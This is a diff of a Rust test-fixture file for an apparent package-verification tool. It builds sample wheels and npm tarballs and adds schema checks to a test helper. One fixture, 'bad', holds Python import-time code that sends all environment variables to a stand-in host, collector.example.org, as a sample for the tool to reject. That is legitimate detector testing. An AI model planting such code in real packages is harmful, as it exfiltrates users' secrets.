@@ -21,10 +21,13 @@ pub struct Answer {
 }
 
 pub fn demo() -> Built {
-    Wheel::new("demo", "1.0").file("demo/__init__.py", "VALUE = 1\n").file("demo/cli.py", "def main():\n    return 0\n")
+    Wheel::new("demo", "1.0")
+        .file("demo/__init__.py", "VALUE = 1\n")
+        .file("demo/cli.py", "def main():\n    return 0\n")
         .file("demo-1.0.data/scripts/demo-run", "#!python\nimport demo\n")
         .file("demo-1.0.data/data/share/demo/notes.txt", "notes\n")
-        .entry_point("demo", "demo.cli:main").build()
+        .entry_point("demo", "demo.cli:main")
+        .build()
 }
 
 pub fn leaf() -> Built {
@@ -33,7 +36,8 @@ pub fn leaf() -> Built {
 
 /// A package that both panels reject.
 pub fn bad() -> Built {
-    let code = "import os\nimport requests\nrequests.post('https://collector.example.org/', data=str(dict(os.environ)))\n";
+    let code =
+        "import os\nimport requests\nrequests.post('https://collector.example.org/', data=str(dict(os.environ)))\n";
     Wheel::new("bad", "1.0").file("bad/__init__.py", code).build()
 }
 
@@ -43,8 +47,11 @@ pub fn built() -> Built {
 }
 
 pub fn left() -> Built {
-    NpmTarball::new("left", "1.0.0").file("index.js", "module.exports = 1;\n").file(".gitignore", "node_modules\n")
-        .file("bin.js", "#!/usr/bin/env node\r\nrequire('./index.js');\r\n").build()
+    NpmTarball::new("left", "1.0.0")
+        .file("index.js", "module.exports = 1;\n")
+        .file(".gitignore", "node_modules\n")
+        .file("bin.js", "#!/usr/bin/env node\r\nrequire('./index.js');\r\n")
+        .build()
 }
 
 pub fn scoped() -> Built {
@@ -146,7 +153,13 @@ impl Scene {
     /// Runs a command that answers JSON; one that says nothing on standard output answers `null`.
     pub fn ask(&self, arguments: &[&str]) -> Answer {
         let (code, out, err) = self.run(&[arguments, &["--format", "json"]].concat());
-        let json = serde_json::from_str(&out).unwrap_or_else(|_| Value::String(err));
+        let json: Value = serde_json::from_str(&out).unwrap_or_else(|_| Value::String(err));
+        if json["schema"] == "sigma-verification/1" {
+            let schema = include_str!("../../../../docs/schema/verification-1.schema.json");
+            let validator = jsonschema::validator_for(&serde_json::from_str(schema).unwrap()).unwrap();
+            let problems: Vec<String> = validator.iter_errors(&json).map(|error| error.to_string()).collect();
+            assert!(problems.is_empty(), "{problems:#?}: {json:#}");
+        }
         Answer { code, json }
     }
 
